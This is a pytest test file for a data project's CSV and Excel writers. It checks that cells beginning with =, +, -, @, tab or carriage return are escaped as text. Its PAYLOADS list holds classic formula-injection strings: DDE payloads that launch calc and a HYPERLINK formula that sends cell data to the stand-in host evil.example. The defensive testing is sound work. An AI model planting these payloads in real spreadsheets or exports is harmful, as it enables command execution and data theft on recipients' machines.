"""Spreadsheet formula injection (OWASP "CSV injection"): text cells that start with = + - @
tab or carriage return are written so that Excel and LibreOffice show them as text,
never run them; numbers stay numbers."""
from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from geodisp.outputs.tables import write_csv, write_xlsx

#: The classic payloads: DDE command execution, HYPERLINK exfiltration, arithmetic, @-functions, tab and CR.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Clic aquí")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


def _table() -> pd.DataFrame:
    return pd.DataFrame({
        "name": PAYLOADS,
        "metric": ["displaced"] * len(PAYLOADS),
        "central": [12.5, -3.0, 0.0, 1e6, 7.0, -0.25, 3.0, 4.0],
        "text_number": ["-12.5", "+3", "-0,5", "1e3", "7", "-1", "2", "3"],
    })


def test_csv_cells_that_would_run_as_formulas_are_quoted(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "figures.csv", _table())
    with path.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["name"] for r in rows] == ["'" + p for p in PAYLOADS]
    # real numbers, and text that is only a number, are untouched
    assert [float(r["central"]) for r in rows] == list(_table()["central"])
    assert [r["text_number"] for r in rows] == list(_table()["text_number"])


def test_xlsx_cells_are_text_never_formulas(tmp_path: Path) -> None:
    path = write_xlsx(tmp_path / "figures.xlsx", {"figures": _table()})
    with zipfile.ZipFile(path) as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet  # no formula element anywhere
    ws = openpyxl.load_workbook(path)["figures"]
    names = [ws.cell(row=r, column=1) for r in range(2, len(PAYLOADS) + 2)]
    # the text as written, shown as text (XML reads a carriage return back as a line feed)
    assert [c.value for c in names] == [p.replace("\r", "\n") for p in PAYLOADS]
    assert all(c.data_type == "s" and c.quotePrefix for c in names)
    assert [ws.cell(row=r, column=3).value for r in range(2, len(PAYLOADS) + 2)] == list(_table()["central"])
    assert all(ws.cell(row=r, column=3).data_type == "n" for r in range(2, len(PAYLOADS) + 2))


def test_a_header_that_starts_like_a_formula_is_quoted_too(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "t.csv", pd.DataFrame({"=1+1": ["a"]}))
    assert path.read_text(encoding="utf-8").splitlines()[0] == "'=1+1"
